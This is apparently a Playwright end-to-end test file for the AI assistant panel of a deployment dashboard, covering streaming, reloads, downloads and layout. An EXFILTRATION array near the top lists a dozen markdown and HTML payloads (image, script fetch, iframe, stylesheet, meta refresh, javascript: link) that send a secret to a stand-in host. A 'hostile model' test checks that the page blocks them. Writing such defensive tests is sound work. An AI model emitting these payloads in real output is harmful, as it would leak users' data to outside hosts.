import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { type OpenAiServer, says, startOpenAiServer } from '../../api/test/openai-server.ts';
import type { Person } from '../../api/test/world.ts';
import { createStage, expectSound, NARROW, picture, type Stage, WIDE } from './stage.ts';

const DEPLOY_MS = 60_000;
/** Milliseconds between two pieces of an answer by rules: slow enough to load the page again in its middle. */
const PACE = 40;

/** Each sends the reader's data elsewhere, wherever a page follows it by itself. */
const ELSEWHERE = 'http://192.0.2.1/steal?secret=hunter2';
const EXFILTRATION = [
  `![x](${ELSEWHERE})`,
  `![x][1]\n\n[1]: ${ELSEWHERE}`,
  `<img src="${ELSEWHERE}">`,
  `<script>fetch('${ELSEWHERE}')</script>`,
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<link rel="stylesheet" href="${ELSEWHERE}"><link rel="prefetch" href="${ELSEWHERE}">`,
  `<style>body { background: url(${ELSEWHERE}) }</style>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `[here](${ELSEWHERE}) ${ELSEWHERE} <${ELSEWHERE}> [x](//192.0.2.1/steal) [x](javascript:fetch('${ELSEWHERE}'))`,
  `\`\`\`html\n<img src="${ELSEWHERE}">\n\`\`\``,
  `| a |\n| - |\n| ![x](${ELSEWHERE}) |`,
  `<svg><image href="${ELSEWHERE}"/></svg><video poster="${ELSEWHERE}"></video>`,
];

let stage: Stage;
let modelStage: Stage;
let model: OpenAiServer;
let ada: Person;
let grace: Person;

beforeAll(async () => {
  model = await startOpenAiServer();
  const openai = { apiKey: 'sk-test', baseUrl: model.url, model: 'test-model' };
  [stage, modelStage] = await Promise.all([
    createStage({ overrides: { answerPace: PACE } }),
    createStage({ settings: { openai } }),
  ]);
  ada = await stage.world.as('Ada');
  grace = await modelStage.world.as('Grace');
});

afterAll(async () => {
  await Promise.all([stage.close(), modelStage.close()]);
  await model.close();
});

const panel = (page: Page) => page.getByRole('complementary', { name: 'AI Assistant' });
const lastAnswer = (page: Page) => page.getByRole('log').getByRole('article', { name: 'Assistant' }).last();

async function openPanel(page: Page) {
  await page.getByRole('button', { name: 'Ask the assistant' }).click();
  await page.getByRole('textbox', { name: 'Message' }).waitFor();
  await page.getByRole('list', { name: 'Suggested questions' }).waitFor();
}

async function ask(page: Page, question: string) {
  await page.getByRole('textbox', { name: 'Message' }).fill(question);
  await page.keyboard.press('Enter');
}

/** Where the page sends requests, our own server left out. */
function requestsElsewhere(page: Page, { origin }: Stage): string[] {
  const elsewhere: string[] = [];
  page.context().on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(`${origin}/`) && !url.startsWith('blob:') && !url.startsWith('data:'))
      elsewhere.push(url);
  });
  return elsewhere;
}

test('without a key: the true cause of a failure, by keyboard alone', async () => {
  const project = await ada.rpc.projects.create.mutate({
    name: 'Shop',
    repositoryUrl: `${stage.origin.replace('localhost', '127.0.0.1')}/nothing-here.git`,
  });
  const newest = async () => (await ada.rpc.deployments.list.query({ id: project.id }))[0];
  await expect
    .poll(async () => (await newest())?.status, { timeout: DEPLOY_MS, interval: 200 })
    .toBe('failed');
  const cause = (await newest())?.error ?? 'no cause';

  const page = await stage.open('/', { as: ada });
  const elsewhere = requestsElsewhere(page, stage);
  await page.getByRole('button', { name: 'Ask the assistant' }).focus();
  await page.keyboard.press('Enter');
  const field = page.getByRole('textbox', { name: 'Message' });
  await expect.poll(() => field.evaluate((area) => area === document.activeElement)).toBe(true);
  await panel(page).getByText('Local responder').waitFor();
  await picture(page, 'assistant-empty');
  await expectSound(page);
  await page.keyboard.type('What failed in my last deployment?');
  await page.keyboard.press('Enter');
  await expect.poll(() => lastAnswer(page).textContent()).toContain(cause);
  await picture(page, 'assistant-cause');
  await expectSound(page);
  await page.keyboard.press('Escape');
  await expect.poll(() => panel(page).count()).toBe(0);
  const label = await page.evaluate(() => document.activeElement?.getAttribute('aria-label'));
  expect(label).toBe('Ask the assistant');
  expect(elsewhere).toEqual([]);
});

test('without a key: a manifest goes on after a reload, and is downloaded under its own name', async () => {
  const page = await stage.open('/databases', { as: ada });
  await page.getByRole('button', { name: 'AI Assistant' }).click();
  await panel(page).getByRole('tab', { name: 'Database', selected: true }).waitFor();
  await panel(page).getByRole('tab', { name: 'Kubernetes' }).click();
  await panel(page)
    .getByRole('button', { name: 'Write a Kubernetes manifest for nginxinc/nginx-unprivileged:1.29' })
    .click();
  // Its middle is there, its end is not.
  await lastAnswer(page).getByText('kind: Deployment').waitFor();
  await page.reload();
  await lastAnswer(page).getByText('kind: HorizontalPodAutoscaler').waitFor();
  const saving = page.waitForEvent('download');
  await lastAnswer(page)
    .getByRole('button', { name: /^Download .*\.yaml$/ })
    .first()
    .click();
  const download = await saving;
  expect(download.suggestedFilename()).toBe('nginx-unprivileged.yaml');
  const yaml = await readFile(await download.path(), 'utf8');
  expect(yaml).toContain('kind: Deployment');
  expect(yaml).toContain('nginxinc/nginx-unprivileged:1.29');
  await picture(page, 'assistant-manifest');
  await expectSound(page);
});

test('an answer of a model is streamed, survives a reload in its middle, and is kept', async () => {
  const goOn = Promise.withResolvers<void>();
  model.follow(async (completion) => {
    if (completion.round === 0) {
      await completion.toolCalls({ name: 'projects_list', args: {} });
      return completion.finish();
    }
    await completion.text('## You have\n\nno projects ');
    await goOn.promise;
    await completion.text('**at all**.');
    await completion.finish({ promptTokens: 10, completionTokens: 5 });
  });
  const page = await modelStage.open('/dns', { as: grace });
  await openPanel(page);
  await panel(page).getByText('test-model').waitFor();
  await ask(page, 'What do I have?');
  await panel(page).getByText('no projects').waitFor();
  expect(await page.getByRole('button', { name: 'Send' }).count()).toBe(0);
  await picture(page, 'assistant-streaming');
  await page.reload();
  await panel(page).getByText('no projects').waitFor();
  await panel(page).getByText('What do I have?').waitFor();
  goOn.resolve();
  await expect.poll(() => lastAnswer(page).textContent()).toContain('no projects at all.');
  await page.getByRole('log').getByText('projects_list').click();
  await picture(page, 'assistant-answer');
  await expectSound(page);

  await panel(page).getByRole('button', { name: 'New chat' }).click();
  await page.getByRole('list', { name: 'Suggested questions' }).waitFor();
  await panel(page).getByRole('button', { name: 'Past conversations' }).click();
  await picture(page, 'assistant-past');
  await expectSound(page);
  await panel(page)
    .getByRole('button', { name: /^What do I have\? General/ })
    .click();
  await lastAnswer(page).getByText('at all').waitFor();
});

test('a hostile model makes the page ask nobody else for anything', async () => {
  const page = await modelStage.open('/dns', { as: grace });
  const elsewhere = requestsElsewhere(page, modelStage);
  await openPanel(page);
  for (const [index, markdown] of EXFILTRATION.entries()) {
    model.follow(says(...(markdown.match(/[\s\S]{1,9}/g) ?? []), `\n\nend **${index}**`));
    await ask(page, `Variant ${index}`);
    await expect.poll(() => lastAnswer(page).textContent()).toContain(`end ${index}`);
    await page.getByRole('button', { name: 'Send' }).waitFor();
  }
  await page.reload();
  await expect.poll(() => lastAnswer(page).textContent()).toContain(`end ${EXFILTRATION.length - 1}`);
  expect(elsewhere).toEqual([]);
  expect(await panel(page).locator('img, iframe, script, link, style, a').count()).toBe(0);
  expect(new URL(page.url()).pathname).toBe('/dns');
  await picture(page, 'assistant-hostile');
});

test('a long answer comes smoothly, its end in sight until one scrolls away', async () => {
  const paragraph = 'It runs, and **keeps** running: `ok`, as [the log](/dns) says, word by word. ';
  const section = `${paragraph.repeat(4)}\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n\`\`\`yaml\n${'key: value\n'.repeat(40)}\`\`\`\n\n`;
  const text = section.repeat(Math.ceil(65_000 / section.length)).slice(0, 65_000);
  const scrolled = Promise.withResolvers<void>();
  model.follow(async (completion) => {
    const pieces = text.match(/[\s\S]{1,40}/g) ?? [];
    for (const [index, piece] of pieces.entries()) {
      if (index === Math.floor(pieces.length / 2)) await scrolled.promise;
      await completion.text(piece);
      if (index % 20 === 0) await completion.wait(5);
    }
    await completion.finish();
  });
  const page = await modelStage.open('/dns', { as: grace });
  await page.evaluate(() => {
    const lasted: number[] = [];
    Object.assign(window, { lasted });
    new PerformanceObserver((list) =>
      lasted.push(...list.getEntries().map(({ duration }) => duration)),
    ).observe({
      type: 'longtask',
    });
  });
  await openPanel(page);
  await ask(page, 'Tell me everything');
  const frame = page.getByRole('region', { name: 'Conversation' });
  const fromEnd = () => frame.evaluate((box) => box.scrollHeight - box.scrollTop - box.clientHeight);
  await expect.poll(() => frame.evaluate((box) => box.scrollHeight)).toBeGreaterThan(8000);
  await expect.poll(fromEnd).toBeLessThan(40);
  await frame.evaluate((box) => box.scrollTo(0, 100));
  const latest = page.getByRole('button', { name: 'Jump to latest' });
  await latest.waitFor();
  await picture(page, 'assistant-scrolled');
  scrolled.resolve();
  await page.getByRole('button', { name: 'Send' }).waitFor();
  expect(await frame.evaluate((box) => box.scrollTop)).toBe(100);
  await latest.click();
  await expect.poll(fromEnd).toBeLessThan(40);
  const longest = await page.evaluate(() =>
    Math.max(0, ...(window as unknown as { lasted: number[] }).lasted),
  );
  // Laid out anew with each of its pieces, it would take seconds.
  expect(longest).toBeLessThan(2000);
});

test('on a phone, in the light, and at 200 % it covers the page and works', async () => {
  model.follow(
    says(
      '| a wide | table of | many long | columns |\n| - | - | - | - |\n| 1 | 2 | 3 | 4 |\n\n',
      `${'long'.repeat(60)}`,
    ),
  );
  for (const visit of [
    { name: 'assistant-narrow-light', viewport: NARROW, theme: 'light' as const },
    { name: 'assistant-zoomed', viewport: { width: WIDE.width / 2, height: WIDE.height / 2 } },
  ]) {
    const page = await modelStage.open('/dns', { as: grace, ...visit });
    await openPanel(page);
    const dialog = page.getByRole('dialog', { name: 'AI Assistant' });
    expect(await dialog.evaluate((box) => box.getBoundingClientRect().width)).toBe(visit.viewport.width);
    await ask(page, 'Show me');
    await lastAnswer(page).getByRole('table').waitFor();
    await picture(page, visit.name);
    await expectSound(page);
    await page.keyboard.press('Escape');
    await expect.poll(() => dialog.count()).toBe(0);
  }
  const light = await modelStage.open('/dns', {
    as: grace,
    theme: 'light',
    viewport: { width: 1600, height: 900 },
  });
  await openPanel(light);
  expect(await panel(light).evaluate((box) => box.getBoundingClientRect().width)).toBe(500);
  await ask(light, 'Show me');
  await lastAnswer(light).getByRole('table').waitFor();
  await picture(light, 'assistant-light');
  await expectSound(light);
});
